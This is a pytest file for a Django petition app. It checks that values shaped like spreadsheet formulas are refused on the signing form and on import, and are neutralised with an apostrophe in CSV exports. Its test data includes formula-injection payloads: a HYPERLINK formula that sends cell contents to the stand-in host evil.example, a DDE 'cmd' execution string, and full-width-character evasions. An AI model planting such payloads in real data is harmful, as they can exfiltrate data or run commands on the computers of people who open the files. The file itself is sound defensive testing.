"""Formulas never reach a spreadsheet from our exports, nor our database from an import; CSV
exports carry a byte-order mark so that spreadsheets read names in any script."""

import csv
import io

import pytest
from django.urls import reverse

from campaign.spreadsheets import looks_like_formula, neutralise
from people.models import Person
from people.resources import PersonResource
from petitions.models import Signature
from petitions.services import signature_confirm, signature_submit
from tests.petitions.factories import make_petition, signing_form

pytestmark = pytest.mark.django_db

# What an adversary signed with (issue 9): each would run in the spreadsheet of whoever opens the export.
FORMULA_NAMES = [
    '=HYPERLINK("//evil.example/?"&A2,"Click")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "＝1+1",  # full-width equals sign: spreadsheets read it as "="
]
FORMULA_ADDRESS = "=2+2@x.example"


@pytest.mark.parametrize(
    "text",
    [*FORMULA_NAMES, FORMULA_ADDRESS, "  =1+1", "\t=1+1", "\r-1", "＋1", "－1", "＠SUM(1)", "\u3000=1+1"],
)
def test_every_formula_start_is_recognised_and_neutralised(text):
    assert looks_like_formula(text)
    assert neutralise(text) == "'" + text
    assert not looks_like_formula(neutralise(text))


@pytest.mark.parametrize("text", ["Ada Lovelace", "O'Brien", "Smith-Jones", "مریم رجوی", "2+2", "", None, "a@b.org"])
def test_ordinary_text_is_left_alone(text):
    assert not looks_like_formula(text)
    assert neutralise(text) == ("" if text is None else text)


def sign(client, petition, **overrides):
    return client.post(reverse("petitions:sign", args=[petition.slug]), signing_form(**overrides))


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_the_signing_form_refuses_a_name_that_starts_like_a_formula(client, name):
    response = sign(client, make_petition(), name=name)
    assert response.status_code == 400
    assert "Please enter your name without = + - or @ at the start." in response.content.decode()
    assert Signature.objects.count() == 0


def export_people(admin_client):
    fields = {f"personresource_{name}": "on" for name in PersonResource().get_export_order()}
    response = admin_client.post(reverse("admin:people_person_export"), {"format": "0", "resource": "0", **fields})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return response.content


def test_people_made_from_signatures_are_exported_without_formulas(client, admin_client):
    petition = make_petition()
    # Through the form: the address is a formula (it is a valid address, so the form takes it).
    assert sign(client, petition, email=FORMULA_ADDRESS).status_code == 302
    # Names as they were signed before the form refused them (or as staff or an import might type them).
    for number, name in enumerate(FORMULA_NAMES):
        signature_submit(petition=petition, name=name, email=f"signer{number}@example.org", country="GB")
    for signature in Signature.objects.all():
        signature_confirm(signature.pk)
    assert Person.objects.filter(email=FORMULA_ADDRESS).exists()
    assert Person.objects.filter(family_name=FORMULA_NAMES[0]).exists()

    content = export_people(admin_client)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 1 + len(FORMULA_NAMES)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if looks_like_formula(cell)]
    assert "'" + FORMULA_ADDRESS in cells
    assert "'" + FORMULA_NAMES[0] in cells  # no space in it: all of it became the family name
    assert "'@SUM(1+1)" in cells and "'-2+3+cmd|x" in cells and "'＝1+1" in cells
    assert "'+cmd|' /C" in cells  # the given name; the family name "calc'!A0" is no formula


def test_the_people_export_has_a_byte_order_mark_and_keeps_persian_names(admin_client):
    Person.objects.create(given_name="مریم", family_name="رجوی", email="maryam@example.org")
    content = export_people(admin_client)
    assert content.startswith(b"\xef\xbb\xbf")
    assert "رجوی" in content.decode("utf-8-sig")


def test_the_signature_export_has_a_byte_order_mark_and_no_formulas(admin_client):
    petition = make_petition()
    signature_submit(petition=petition, name="مریم رجوی", email="maryam@example.org", country="GB")
    for number, name in enumerate(FORMULA_NAMES):
        signature_submit(petition=petition, name=name, email=f"signer{number}@example.org", country="GB")
    signature_submit(petition=petition, name="Ada Lovelace", email=FORMULA_ADDRESS, country="GB")
    response = admin_client.get(reverse("admin:petitions_petition_export_signatures", args=[petition.pk]))
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0]["name"] == "مریم رجوی"
    assert [row["name"] for row in rows[1:-1]] == ["'" + name for name in FORMULA_NAMES]
    assert rows[-1]["email"] == "'" + FORMULA_ADDRESS


HEADER = "honorific,given_name,family_name,email,country,description\n"


def upload(client, content):
    from tests.imports.helpers import upload as upload_and_check

    return upload_and_check(client, content)


@pytest.mark.parametrize(
    ("row", "column"),
    [
        (',Ada,"=HYPERLINK(""//evil.example/?""&A2,""Click"")",ada@example.org,GB,\n', "family_name"),
        (",@SUM(1+1),Lovelace,ada@example.org,GB,\n", "given_name"),
        (",Ada,Lovelace,ada@example.org,GB,+cmd|' /C calc'!A0\n", "description"),
        ("-2+3+cmd|x,Ada,Lovelace,ada@example.org,GB,\n", "honorific"),
        (",Ada,Lovelace,=2+2@x.example,GB,\n", "email"),
        (",＝1+1,Lovelace,ada@example.org,GB,\n", "given_name"),
        (",Ada,  =1+1,ada@example.org,GB,\n", "family_name"),
    ],
)
def test_an_import_refuses_formulas_naming_the_column(editor_client, row, column):
    good = ",Grace,Hopper,grace@example.org,US,\n"
    response = upload(editor_client, HEADER + good + row)
    assert response.status_code == 200
    page = response.content.decode().replace("&ldquo;", "“").replace("&rdquo;", "”")
    assert f"“{column}” starts like a spreadsheet formula" in page
    assert "Confirm and import" not in page
    assert Person.objects.count() == 0
